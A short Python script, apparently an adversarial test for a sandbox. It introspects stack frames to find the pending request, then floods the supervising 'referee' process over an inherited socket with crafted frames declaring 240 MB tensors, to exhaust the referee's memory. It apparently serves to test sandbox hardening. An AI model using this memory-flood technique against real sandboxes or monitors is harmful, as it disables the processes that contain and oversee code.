"""Flood: fill the memory of the referee instead of its own."""

import socket
import sys

from sandbox.frames import pack, receive, send
from sandbox.wire import encode


def question():
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if type(value) is dict and {"id", "op"} <= set(value):
                return value
        frame = frame.f_back
    print("ESCAPED: the question is no longer found")


number = question()["id"]
link = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=4)
send(link, encode({"id": number, "value": None, "forbidden": []}))
size = 240 << 20
piece = bytes(1 << 20)
while True:
    number = receive(link).tree[1][0][1]
    tree = encode({"id": number, "value": None, "args": None, "kwargs": None, "forbidden": []}).tree
    tree[1][1][1] = ["T", "float32", [size // 4], 0, size]
    link.sendall(pack(tree, size))
    for _ in range(240):
        link.sendall(piece)
